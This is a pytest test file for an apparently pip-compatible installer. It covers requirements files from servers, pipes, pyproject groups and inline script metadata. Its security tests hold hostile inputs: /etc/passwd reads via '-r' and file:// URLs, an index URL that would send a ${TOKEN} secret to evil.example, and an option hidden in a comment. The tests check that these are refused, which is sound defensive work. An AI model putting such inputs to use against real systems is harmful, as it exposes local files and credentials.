"""Requirements files of every kind: on servers, from a pipe, of projects, groups and scripts."""

import subprocess
import sys
from pathlib import Path

import pytest

from tests.kit.command import run
from tests.kit.servers import Answer, FaultyServer, redirect
from tests.kit.world import refused


@pytest.fixture
def shop(world):
    for name in ("app", "library", "more"):
        for version in ("1.0", "2.0"):
            world.wheel(name, version)
    return world


@pytest.fixture
def server():
    with FaultyServer().serving() as serving:
        yield serving


def put(server: FaultyServer, path: str, text: str | bytes) -> str:
    data = text.encode() if isinstance(text, str) else text
    server.routes[path] = [Answer(200, data)]
    return f"{server.url}{path}"


# --- on a server -----------------------------------------------------------------------------------


def test_requirements_and_constraints_from_a_server(shop, server):
    put(server, "/files/more/base.txt", "library\n-c ../limits.txt\n")
    put(server, "/files/limits.txt", "app<2\nlibrary<2\n")
    url = put(server, "/files/r.txt", "app  # comment\n-r more/base.txt\n")
    only = put(server, "/only.txt", "more==1.0\n")
    done = shop.install("-r", url, "-c", only, "more")
    assert done.code == 0, done
    assert shop.installed() == {"app": "1.0", "library": "1.0", "more": "1.0"}


def test_a_local_file_may_include_one_from_a_server(shop, server):
    url = put(server, "/r.txt", "library==1.0\n")
    shop.write("requirements.txt", f"app==1.0\n-r {url}\n")
    assert shop.install("-r", "requirements.txt").code == 0
    assert shop.installed() == {"app": "1.0", "library": "1.0"}


def test_names_are_relative_to_where_a_redirect_led(shop, server):
    server.routes["/old/r.txt"] = [redirect("/new/r.txt")]
    put(server, "/new/r.txt", "-r base.txt\n")
    put(server, "/new/base.txt", "app==1.0\n")
    assert shop.install("-r", f"{server.url}/old/r.txt").code == 0
    assert shop.installed() == {"app": "1.0"}


def test_a_file_from_a_server_is_asked_for_each_time(shop, server):
    """Tier 0 knows no state of it."""
    url = put(server, "/r.txt", "app==1.0\n")
    assert shop.install("-r", url).code == 0
    assert shop.install("-r", url).code == 0
    put(server, "/r.txt", "app==2.0\n")
    assert shop.install("-r", url).code == 0
    assert shop.installed() == {"app": "2.0"}


@pytest.mark.parametrize(
    ("line", "fragment"),
    [
        ("-r /etc/passwd", "`/etc/passwd` does not exist"),
        ("-r file:///etc/passwd", "`file:///etc/passwd`, which is no file of its server"),
        ("-c file:///etc/passwd", "which is no file of its server"),
        ("-r https://other.example/r.txt", "which is on another server"),
        ("-e ./here", "`./here` is on this machine"),
        ("-e .", "is on this machine"),
        ("-e file:///srv/x", "is on this machine"),
        ("-e git+file:///srv/x#egg=x", "is on this machine"),
        ("./wheels/x-1.0-py3-none-any.whl", "is on this machine"),
        ("x-1.0-py3-none-any.whl", "is on this machine"),
        ("x @ file:///srv/x-1.0-py3-none-any.whl", "is on this machine"),
        ("--find-links /srv", "is on this machine"),
        ("--find-links file:///srv", "is on this machine"),
        ("--index-url ../index", "is on this machine"),
        ("--trusted-host evil.example", "whose certificates are not checked"),
        ("--index-url https://evil.example/${TOKEN}/", "`${TOKEN}` is not replaced"),
        ("x @ https://evil.example/${TOKEN}/x-1.0-py3-none-any.whl", "`${TOKEN}` is not replaced"),
        ("-r pyproject.toml", "is not on this machine"),
        ("app==", "r.txt:1:"),
    ],
)
def test_what_a_file_from_a_server_must_not_say(shop, server, line, fragment):
    url = put(server, "/r.txt", f"{line}\n")
    done = shop.install("-r", url, TOKEN="S3CR3T", PIP_RETRIES="0")
    if line == "-r /etc/passwd":
        # A path belongs to the server there.
        fragment = f"the requirements file `{server.url}/etc/passwd` does not exist"
    refused(shop, done, fragment)
    assert "S3CR3T" not in done.err + done.out
    assert "root:" not in done.err


def test_a_comment_is_no_option(shop, server):
    """CVE-2022-21668 was an option inside a comment."""
    url = put(
        server, "/r.txt", "app==1.0  # --index-url https://evil.example/s\n# -r /etc/passwd\n"
    )
    assert shop.install("-r", url).code == 0


@pytest.mark.parametrize(
    ("answer", "fragment"),
    [
        (Answer(404, b""), "does not exist"),
        (Answer(403, b""), "403"),
        (Answer(200, b"app==1.0 x\n"), "r.txt:1:"),
        (Answer(200, b"\xff\xfe\x00"), "is not valid"),
        (Answer(200, b"", length=str(1 << 40)), "larger than"),
        (redirect("file:///etc/passwd"), "redirects to something that is not fetched"),
    ],
)
def test_answers_that_are_no_requirements_file(shop, server, answer, fragment):
    server.routes["/r.txt"] = [answer]
    refused(shop, shop.install("-r", f"{server.url}/r.txt", "--retries", "0"), fragment)


def test_a_cycle_and_a_chain_on_a_server(shop, server):
    put(server, "/a.txt", "-r b.txt\n")
    put(server, "/b.txt", "-r a.txt\n")
    refused(shop, shop.install("-r", f"{server.url}/a.txt"), "includes itself")
    for number in range(60):
        put(server, f"/{number}.txt", f"-r {number + 1}.txt\n")
    refused(shop, shop.install("-r", f"{server.url}/0.txt"), "more than 50 files")


def test_a_password_in_the_url_of_a_file_is_sent_and_not_told(shop, server):
    put(server, "/r.txt", "absent\n")
    url = server.url.replace("http://", "http://user:S3CR3T@")
    done = shop.install("-r", f"{url}/r.txt", "-vvv")
    assert done.code == 1
    assert "S3CR3T" not in done.err + done.out
    assert "absent" in done.err
    assert server.requests[0].headers.get("authorization", "").startswith("Basic ")


def test_nobody_is_asked_offline(shop, server):
    url = put(server, "/r.txt", "app\n")
    refused(shop, shop.install("-r", url, "--offline"), "cannot be read offline")
    assert server.requests == []


# --- from a pipe -----------------------------------------------------------------------------------


def piped(shop, text: bytes, *words: str):
    done = subprocess.run(
        [sys.executable, "-m", "xpip", "install", "--python", shop.environment, "--cache-dir",
         shop.cache, "--index-url", shop.index.simple, *words],
        input=text, capture_output=True, cwd=shop.folder, check=False,
    )  # fmt: skip
    return done.returncode, done.stderr.decode()


def test_standard_input_and_its_includes(shop):
    shop.write("base.txt", "library==1.0\n")
    assert piped(shop, b"app==1.0\n-r base.txt\n", "-r", "-") == (0, "")
    assert shop.installed() == {"app": "1.0", "library": "1.0"}
    assert piped(shop, b"app==2.0\n", "-r", "-") == (0, "")
    assert shop.installed() == {"app": "2.0", "library": "1.0"}
    code, err = piped(shop, b"app==\n", "-r", "-")
    assert (code, "-:1:" in err) == (1, True), err


# --- projects, groups and scripts ------------------------------------------------------------------

PROJECT = """
[project]
name = "mine"
version = "1"
dependencies = ["app==1.0"]
[project.optional-dependencies]
fast = ["library==1.0"]
all = ["mine[fast]", "more==1.0"]
[dependency-groups]
test = ["library==2.0"]
dev = [{include-group = "test"}, "more==2.0"]
"""


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        (("-r", "pyproject.toml"), {"app": "1.0"}),
        (("-r", "pyproject.toml", "--extra", "Fast"), {"app": "1.0", "library": "1.0"}),
        (("-r", "pyproject.toml", "--extra", "all"),
         {"app": "1.0", "library": "1.0", "more": "1.0"}),
        (("-r", "pyproject.toml", "--all-extras"),
         {"app": "1.0", "library": "1.0", "more": "1.0"}),
        (("--group", "test"), {"library": "2.0"}),
        (("--group", "pyproject.toml:dev"), {"library": "2.0", "more": "2.0"}),
        (("--group", "test", "-r", "nested.txt"), {"library": "2.0", "app": "1.0"}),
    ],
)  # fmt: skip
def test_a_project_its_extras_and_groups(shop, words, expected):
    shop.write("pyproject.toml", PROJECT)
    shop.write("nested.txt", "-r pyproject.toml\n")
    done = shop.install(*words)
    assert done.code == 0, done
    assert shop.installed() == expected


@pytest.mark.parametrize(
    ("words", "fragment", "code"),
    [
        (("--group", "absent"), "no dependency group `absent`", 1),
        (("--group", "other.toml:test"), "from a `pyproject.toml`, not from `other.toml`", 2),
        (("--group", "missing/pyproject.toml:test"), "does not exist", 1),
        (("--extra", "fast", "app"), "need a `pyproject.toml`", 2),
        (("-r", "pyproject.toml", "--extra", "absent"), "no extra `absent`", 1),
        (("-c", "pyproject.toml", "app"), "is not a constraints file", 1),
    ],
)
def test_projects_that_cannot_be_read(shop, words, fragment, code):
    shop.write("pyproject.toml", PROJECT)
    refused(shop, shop.install(*words), fragment, code=code)


def test_a_changed_group_is_noticed(shop):
    """Tier 0 and the check for what is satisfied look at the file."""
    shop.write("pyproject.toml", PROJECT)
    for _ in range(3):
        assert shop.install("--group", "test").code == 0
    shop.write("pyproject.toml", PROJECT.replace("library==2.0", "library==1.0"))
    assert shop.install("--group", "test").code == 0
    assert shop.installed() == {"library": "1.0"}


SCRIPT = '#!/usr/bin/env python\n# /// script\n# requires-python = "{python}"\n# dependencies = [\n#   "app==1.0",\n# ]\n# ///\nimport app\n'


@pytest.mark.parametrize("words", [("-r", "tool.py"), ("--requirements-from-script", "tool.py")])
def test_what_a_script_needs(shop, words):
    shop.write("tool.py", SCRIPT.format(python=">=3.8"))
    assert shop.install(*words).code == 0
    assert shop.installed() == {"app": "1.0"}


def test_a_script_for_another_python(shop):
    shop.write("tool.py", SCRIPT.format(python="<3"))
    refused(shop, shop.install("-r", "tool.py"), "`tool.py` needs Python <3")
    assert shop.install("-r", "tool.py", "--ignore-requires-python").code == 0


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("import app\n", "no block `# /// script`"),
        (SCRIPT.format(python=">=3") * 2, "several blocks"),
        ("# /// script\n# dependencies = 3\n# ///\n", "is not a list of requirements"),
        ("# /// script\n# dependencies = [\n# ///\n", "is not valid TOML"),
    ],
)
def test_scripts_that_do_not_say_what_they_need(shop, text, fragment):
    shop.write("tool.py", text)
    refused(shop, shop.install("-r", "tool.py"), fragment)


def test_other_blocks_of_a_script_do_not_count(shop):
    other = "# /// other\n# dependencies = ['absent']\n# ///\n\n"
    shop.write("tool.py", other + SCRIPT.format(python=">=3") + other)
    assert shop.install("-r", "tool.py").code == 0
    assert shop.installed() == {"app": "1.0"}


# --- all mistakes at once --------------------------------------------------------------------------


def test_all_bad_lines_of_all_files_are_told_with_their_columns(shop):
    shop.write(
        "requirements.txt", "app==1.0\nlibrary== 1.0 x\n  more !! 1\n--unknown\n-r other.txt\n"
    )
    shop.write("other.txt", "app \\\n  ==1.0 --pre\napp --hash=sha256:1\n")
    done = shop.install("-r", "requirements.txt")
    refused(shop, done, "requirements.txt:4:1", "other.txt:2:9", "other.txt:3:5")
    assert "requirements.txt:2" in done.err
    assert "requirements.txt:3" in done.err


def test_pip_reads_the_same_file_in_the_same_way(shop):
    """Options, abbreviations, joined short forms, continuations and an encoding, in one file."""
    text = (
        f"# -*- coding: latin-1 -*-\n--index {shop.index.simple} --only-bin :all:\n"
        "-climits.txt\napp[x] ; python_version > '3'  # caf\xe9\nlibrary \\\n  ==1.0\n"
        "more == ${VERSION}\n"
    )  # fmt: skip
    (shop.folder / "r.txt").write_bytes(text.encode("latin-1"))
    shop.write("limits.txt", "app<2\n")
    answer = run(
        sys.executable, "-m", "pip", "--python", shop.environment / "bin" / "python", "install",
        "--dry-run", "-q", "--disable-pip-version-check", "--no-cache-dir", "--report", "-",
        "-r", "r.txt", cwd=shop.folder, PYTHONPATH="", VERSION="2.0",
    )  # fmt: skip
    ours = shop.xpip("install", "--dry-run", "-q", "--report", "-", "-r", "r.txt", VERSION="2.0")
    assert (ours.code, answer.code) == (0, 0), (ours, answer)
    assert chosen(ours.out) == chosen(answer.out) == {"app": "1.0", "library": "1.0", "more": "2.0"}


def chosen(report: str) -> dict[str, str]:
    import json

    found = (item["metadata"] for item in json.loads(report)["install"])
    return {metadata["name"]: metadata["version"] for metadata in found}


def test_uninstall_reads_a_file_from_a_server(shop, server):
    assert shop.install("app", "library").code == 0
    url = put(server, "/r.txt", "app==7\n")
    assert shop.xpip("uninstall", "-y", "-r", url).code == 0
    assert set(shop.installed()) == {"library"}


def test_files_are_found_from_another_folder(shop):
    shop.write("deep/er/r.txt", "-r ../base.txt\n")
    shop.write("deep/base.txt", "app==1.0\n-c er/limits.txt\n")
    shop.write("deep/er/limits.txt", "app<2\n")
    assert shop.install("-r", Path("deep") / "er" / "r.txt").code == 0
